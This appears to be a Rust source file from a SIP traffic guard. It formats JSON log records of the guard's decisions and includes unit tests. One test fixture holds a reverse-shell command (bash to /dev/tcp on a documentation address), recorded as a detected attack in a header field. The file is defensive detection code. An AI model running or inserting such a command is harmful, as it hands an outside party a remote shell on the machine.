//! Formats the record of one message.

use super::decision::Decision;
use super::findings::worst;
use super::fingerprint;
use super::json;
use super::mask::Mask;
use super::message::agent;
use super::replay::Copy;
use super::time::Clock;
use crate::geo::Place;
use crate::sip::{Kind, names};

/// Findings written of one message.
pub const MAX_FINDINGS: usize = 8;

/// Bytes of a value of the message that are written.
pub const MAX_VALUE: usize = 256;

/// Whose words the record's are (a version of the Elastic Common Schema), and the version of its own form; still open.
/// `docs/decision-log.md` says what differs between the forms.
pub(super) const FORM: &[u8] = b"\"ecs\":{\"version\":\"8.11.0\"},\"sipsieve\":{\"version\":2";

/// What is the same in all records until policy or rules change.
pub struct Settings<'a> {
    /// The rules' version, twelve hexadecimal digits.
    pub rules: &'a str,
    /// The policy's version.
    pub policy: &'a str,
    /// `enforce` or `observe`.
    pub mode: &'a str,
    /// Bytes of a finding's value that are written.
    pub excerpt_bytes: usize,
    /// Bytes of the message that are written, 0 for none.
    pub raw_bytes: usize,
    /// The message is written so that it can be judged again; `raw_bytes` of it.
    pub replay: bool,
    /// Bytes of a whole record, its line end included; what `raw_bytes` asks for comes on top.
    pub record_bytes: usize,
    pub mask: Option<Mask>,
}

/// How much of what a sender wrote is written: of each value, of a suspicious one, and of how many findings and indicators.
#[derive(Clone, Copy)]
pub(super) struct Measure {
    pub(super) value: usize,
    pub(super) excerpt: usize,
    pub(super) findings: usize,
    pub(super) indicators: usize,
}

/// Where a record grows too long, it is written anew by the next of these: escapes make six bytes of one.
const SHORTER: [(usize, usize, usize); 3] = [(96, 4, 4), (32, 2, 2), (8, 1, 0)];

/// Formats records; holds what is the same in all of them.
pub struct Recorder {
    pub(super) excerpt_bytes: usize,
    pub(super) raw_bytes: usize,
    /// The copy that is written, where the message is to be judged again.
    pub(super) replay: Option<Copy>,
    pub(super) record_bytes: usize,
    pub(super) measure: Measure,
    pub(super) mask: Option<Mask>,
    clock: Clock,
    /// What stands behind the rules' names: `"version":"…"},"policy":{"version":"…","mode":"…"}`
    pub(super) after_rules: Vec<u8>,
    /// `"version":"…"` of the rules.
    pub(super) rules: Vec<u8>,
    /// `"policy":{"version":"…","mode":"…"`, still open.
    pub(super) policy: Vec<u8>,
    /// See `quoted`.
    pub(super) quoted: bool,
    /// Texts on their way to a mask.
    pub(super) plain: String,
    pub(super) masked: String,
}

impl Recorder {
    pub fn new(settings: Settings) -> Self {
        let mut rules = b"\"version\":".to_vec();
        json::string(&mut rules, settings.rules);
        let mut policy = b"\"policy\":{\"version\":".to_vec();
        json::string(&mut policy, settings.policy);
        policy.extend_from_slice(b",\"mode\":");
        json::string(&mut policy, settings.mode);
        let after_rules = [&rules[..], b"},", &policy[..], b"}"].concat();
        Self {
            excerpt_bytes: settings.excerpt_bytes,
            raw_bytes: settings.raw_bytes,
            replay: settings.replay.then(Copy::default),
            record_bytes: settings.record_bytes,
            measure: Measure {
                value: MAX_VALUE,
                excerpt: settings.excerpt_bytes,
                findings: MAX_FINDINGS,
                indicators: usize::MAX,
            },
            mask: settings.mask,
            clock: Clock::default(),
            after_rules,
            rules,
            policy,
            quoted: false,
            plain: String::new(),
            masked: String::new(),
        }
    }

    /// As `decision`, of a message that was put together from what another program's log quotes of it: nothing is said of
    /// its size, of how its client writes, of a source that is not known, or of values with `UNKNOWN` in them.
    pub fn quoted(&mut self, out: &mut Vec<u8>, decision: &Decision) {
        self.quoted = true;
        self.decision(out, decision);
        self.quoted = false;
    }

    /// Appends one message's record: a line of JSON with its line end.
    ///
    /// Fields that the guard knows by itself stand before any that the sender controls.
    pub fn decision(&mut self, out: &mut Vec<u8>, decision: &Decision) {
        let start = out.len();
        let whole = Measure {
            value: MAX_VALUE,
            excerpt: self.excerpt_bytes,
            findings: MAX_FINDINGS,
            indicators: usize::MAX,
        };
        let shorter = SHORTER.map(|(value, findings, indicators)| Measure {
            value,
            excerpt: value.min(self.excerpt_bytes),
            findings,
            indicators,
        });
        for measure in std::iter::once(whole).chain(shorter) {
            out.truncate(start);
            self.measure = measure;
            let raw = self.fields(out, decision);
            if out.len() - start - raw <= self.record_bytes {
                break;
            }
        }
    }

    /// Writes a record by the measure at hand; returns how many of its bytes are the message as a whole.
    fn fields(&mut self, out: &mut Vec<u8>, decision: &Decision) -> usize {
        let message = decision.message;
        self.start(out, decision.now);
        out.extend_from_slice(b"\"source\":{");
        if !decision.ip.is_empty() {
            out.extend_from_slice(b"\"ip\":");
            json::string(out, decision.ip);
            out.extend_from_slice(b",\"port\":");
            json::number(out, decision.port.into());
            home(out, decision.place);
        }
        out.extend_from_slice(b"},\"network\":{\"transport\":");
        json::string(out, decision.transport);
        out.extend_from_slice(b"},\"event\":{\"kind\":\"event\",\"action\":");
        json::string(out, decision.action);
        out.extend_from_slice(match (decision.action, decision.enforced) {
            ("error", _) => b",\"outcome\":\"failure\",\"id\":\"",
            (_, true) => b",\"outcome\":\"success\",\"id\":\"",
            (_, false) => b",\"outcome\":\"unknown\",\"id\":\"",
        });
        json::text(out, decision.id);
        if let Some(number) = decision.number {
            json::hexadecimal(out, number);
        }
        out.push(b'"');
        if !decision.reason.is_empty() {
            out.extend_from_slice(b",\"reason\":\"");
            json::escaped(out, decision.reason, self.measure.value);
            out.push(b'"');
        }
        out.extend_from_slice(b"},\"rule\":{");
        let findings = decision
            .findings
            .get(..self.measure.findings)
            .unwrap_or(decision.findings);
        for (place, finding) in findings.iter().enumerate() {
            out.extend_from_slice(if place == 0 { b"\"id\":[" } else { b"," });
            json::string(out, finding.rule);
        }
        if !findings.is_empty() {
            out.extend_from_slice(b"],");
        }
        out.extend_from_slice(&self.after_rules);
        for (place, (name, count)) in decision.counters.iter().enumerate() {
            out.extend_from_slice(if place == 0 { b",\"counters\":{" } else { b"," });
            json::string(out, name);
            out.push(b':');
            json::number(out, *count);
        }
        if !decision.counters.is_empty() {
            out.push(b'}');
        }
        if let Some(ban) = &decision.ban {
            out.extend_from_slice(b",\"ban\":{\"source\":");
            json::string(out, ban.source);
            out.extend_from_slice(b",\"seconds\":");
            json::number(out, ban.seconds);
            out.extend_from_slice(b",\"rule\":");
            json::string(out, ban.rule);
            out.push(b'}');
        }
        let raw = self.ours(out, decision);
        self.sip(out, message);
        if let Some(agent) = agent(message) {
            out.extend_from_slice(b",\"user_agent\":{\"original\":\"");
            json::escaped(out, agent, self.measure.value);
            out.extend_from_slice(b"\"}");
        }
        if !findings.is_empty() {
            let shown = worst(decision.findings).map_or(&b""[..], |worst| worst.excerpt);
            self.findings(out, findings, shown);
            self.indicators(out, decision.findings);
        }
        out.extend_from_slice(b"}\n");
        raw
    }

    /// Opens a record with its time.
    pub(super) fn start(&mut self, out: &mut Vec<u8>, now: f64) {
        out.extend_from_slice(b"{\"@timestamp\":\"");
        self.clock.write(out, now);
        out.extend_from_slice(b"\",");
    }

    pub(super) fn time(&mut self, out: &mut Vec<u8>, now: f64) {
        out.push(b'"');
        self.clock.write(out, now);
        out.push(b'"');
    }

    /// What neither ECS nor Packetbeat has a field for, what the guard knows by itself first; returns how many of its bytes
    /// are the message as a whole.
    fn ours(&mut self, out: &mut Vec<u8>, decision: &Decision) -> usize {
        let message = decision.message;
        let raw = message.raw;
        out.push(b',');
        out.extend_from_slice(FORM);
        if let (Some(_), Some(steady)) = (&self.replay, decision.steady) {
            out.extend_from_slice(b",\"steady\":");
            json::number(out, steady);
        }
        // A reply has a status of its own; it is answered by nobody.
        if decision.status > 0 && (message.kind != Kind::Reply || message.status == 0) {
            out.extend_from_slice(b",\"answer\":");
            json::number(out, decision.status.into());
        }
        if message.kind == Kind::Malformed {
            out.extend_from_slice(b",\"malformed\":true");
        }
        if !self.quoted {
            out.extend_from_slice(b",\"bytes\":");
            json::number(out, raw.len() as u64);
        }
        if (message.headers.iter())
            .any(|header| matches!(header.name.id, names::AUTHORIZATION | names::PROXY_AUTHORIZATION))
        {
            out.extend_from_slice(b",\"authorization\":true");
        }
        // What was put together from a log has the header order of whoever put it together.
        if let Some(client) = (!self.quoted).then(|| fingerprint::of(message)).flatten() {
            out.extend_from_slice(b",\"client\":\"");
            out.extend_from_slice(&client);
            out.push(b'"');
        }
        if let Some(finding) = worst(decision.findings) {
            out.extend_from_slice(b",\"field\":");
            self.field(out, finding.field);
            out.extend_from_slice(b",\"excerpt\":\"");
            self.sent(out, finding.excerpt, self.measure.excerpt, Some(finding.field));
            out.push(b'"');
        }
        let before = out.len();
        if self.replay.is_some() {
            self.kept(out, raw, decision.findings);
        } else if self.raw_bytes > 0 {
            out.extend_from_slice(b",\"raw\":\"");
            self.sent(out, raw, self.raw_bytes, Some(""));
            out.push(b'"');
        }
        let whole = out.len() - before;
        out.push(b'}');
        whole
    }

    /// A field's name, which may hold a header field's that the sender made up.
    pub(super) fn field(&self, out: &mut Vec<u8>, name: &str) {
        out.push(b'"');
        json::escaped(out, name.as_bytes(), self.measure.value);
        out.push(b'"');
    }

    /// Appends what a sender wrote, masked where `field` is given and masks are asked for.
    pub(super) fn sent(&mut self, out: &mut Vec<u8>, value: &[u8], limit: usize, field: Option<&str>) {
        match (&self.mask, field) {
            (Some(mask), Some(field)) => {
                self.plain.clear();
                self.masked.clear();
                json::escaped_text(&mut self.plain, value, limit);
                mask.value(&mut self.masked, field, &self.plain);
                json::text(out, &self.masked);
            }
            _ => json::escaped(out, value, limit),
        }
    }
}

/// Country and operator of a source, as far as they are known, as members of `source`.
fn home(out: &mut Vec<u8>, place: &Place) {
    if place.country.is_some() {
        out.extend_from_slice(b",\"geo\":{\"country_iso_code\":");
        json::string(out, place.country());
        out.push(b'}');
    }
    if place.asn > 0 {
        out.extend_from_slice(b",\"as\":{\"number\":");
        json::number(out, place.asn.into());
        if !place.organization().is_empty() {
            out.extend_from_slice(b",\"organization\":{\"name\":");
            json::string(out, place.organization());
            out.push(b'}');
        }
        out.push(b'}');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::record::Finding;
    use crate::sip::{Header, HeaderName, Message, Span};

    static NOWHERE: Place = Place {
        country: None,
        asn: 0,
        organization: None,
    };

    fn header<'a>(name: &'static str, value: &'a str) -> Header<'a> {
        let (name, raw_name) = (HeaderName::read(name.as_bytes()), name.as_bytes());
        Header {
            name,
            raw_name,
            value: value.as_bytes().into(),
            start: 0,
            value_start: 0,
            end: 0,
            folded: false,
        }
    }

    fn message(raw: &[u8]) -> Message<'_> {
        Message {
            raw,
            kind: Kind::Request,
            method: b"INVITE",
            status: 0,
            uri: Span { start: 7, end: 23 },
            phrase: Span::default(),
            headers: vec![
                header("via", "SIP/2.0/UDP 192.0.2.7:5060;branch=z9hG4bK776asdhds"),
                header("max-forwards", "70"),
                header("from", "\"Alice <sip:x@y>\" <sip:alice@example.com>;tag=1928301774"),
                header("to", "<sip:bob@example.com;user=phone>"),
                header("call-id", "a84b4c76e66710@192.0.2.7"),
                header("cseq", "314159 INVITE"),
                header("contact", "<sip:alice@192.0.2.7>"),
                header("user-agent", "Example/1.0"),
            ],
            body_start: raw.len(),
            defects: Vec::new(),
        }
    }

    fn recorder() -> Recorder {
        Recorder::new(Settings {
            rules: "0123456789ab",
            policy: "ba9876543210",
            mode: "enforce",
            excerpt_bytes: 256,
            raw_bytes: 0,
            replay: false,
            record_bytes: 2048,
            mask: None,
        })
    }

    fn decision<'a>(message: &'a Message<'a>, findings: &'a [Finding<'a>]) -> Decision<'a> {
        Decision {
            now: 1_764_299_045.25,
            steady: None,
            ip: "192.0.2.7",
            port: 5060,
            place: &NOWHERE,
            transport: "udp",
            action: "allow",
            id: "6928f3a1-2f-",
            number: Some(28),
            reason: b"",
            status: 0,
            enforced: true,
            counters: &[("invite", 1)],
            ban: None,
            findings,
            message,
        }
    }

    const ATTACK: Finding = Finding {
        rule: "shell-reverse",
        family: "shell",
        score: 10,
        field: "from.display_name",
        reason: "A command that connects back",
        excerpt: b"bash -i >& /dev/tcp/192.0.2.195:3456 0>&1",
    };

    #[test]
    fn what_the_guard_knows_stands_before_what_the_sender_wrote() {
        let raw = [b"INVITE sip:b@example.nl SIP/2.0\r\n".as_slice(), &[b'x'; 667]].concat();
        let message = message(&raw);
        let mut out = Vec::new();
        recorder().decision(&mut out, &decision(&message, &[]));
        assert_eq!(
            String::from_utf8(out).unwrap(),
            concat!(
                r#"{"@timestamp":"2025-11-28T03:04:05.250000Z","source":{"ip":"192.0.2.7","port":5060},"#,
                r#""network":{"transport":"udp"},"event":{"kind":"event","action":"allow","outcome":"success","#,
                r#""id":"6928f3a1-2f-1c"},"rule":{"version":"0123456789ab"},"policy":{"version":"ba9876543210","#,
                r#""mode":"enforce"},"counters":{"invite":1},"ecs":{"version":"8.11.0"},"#,
                r#""sipsieve":{"version":2,"bytes":700,"client":"1i07_f3fca6a5f0_e0a59f1131"},"#,
                r#""sip":{"type":"request","method":"INVITE","uri":{"original":"sip:b@example.nl"},"#,
                r#""call_id":"a84b4c76e66710@192.0.2.7","from":{"uri":{"original":"sip:alice@example.com"}},"#,
                r#""to":{"uri":{"original":"sip:bob@example.com;user=phone"}},"cseq":{"code":314159}},"#,
                r#""user_agent":{"original":"Example/1.0"}}"#,
                "\n"
            )
        );
    }

    /// Run with `cargo test --release timing -- --ignored --nocapture`.
    #[test]
    #[ignore = "prints figures"]
    fn timing() {
        let raw = [b'x'; 700];
        let message = message(&raw);
        for findings in [&[][..], &[ATTACK]] {
            let mut recorder = recorder();
            let mut out = Vec::with_capacity(4096);
            let mut decision = decision(&message, findings);
            let start = std::time::Instant::now();
            for _ in 0..200_000 {
                decision.now += 1e-5;
                out.clear();
                recorder.decision(&mut out, std::hint::black_box(&decision));
                std::hint::black_box(&out);
            }
            println!(
                "{} findings: {} ns",
                findings.len(),
                start.elapsed().as_nanos() / 200_000
            );
        }
    }
}
